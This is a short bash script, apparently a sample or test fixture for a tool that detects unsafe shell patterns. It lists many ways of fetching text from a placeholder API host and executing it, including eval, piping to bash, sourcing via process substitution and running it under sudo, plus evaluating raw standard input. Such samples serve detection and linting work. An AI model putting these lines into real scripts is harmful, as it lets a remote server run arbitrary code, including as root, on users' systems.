#!/bin/bash
ANSWER=$(curl -s --max-time 5 https://api.example.com/v1/command)
eval "$ANSWER"
sudo bash -c "$ANSWER"
bash -c "echo $ANSWER"
curl -s --max-time 5 https://api.example.com/v1/command | jq -r .command | bash
source <(curl -s --max-time 5 https://api.example.com/v1/command)
. <(curl -s --max-time 5 https://api.example.com/v1/command)
echo "$ANSWER" | sh
eval "$(wget -qO- https://api.example.com/v1/command)"
read -r GIVEN
eval "$GIVEN"
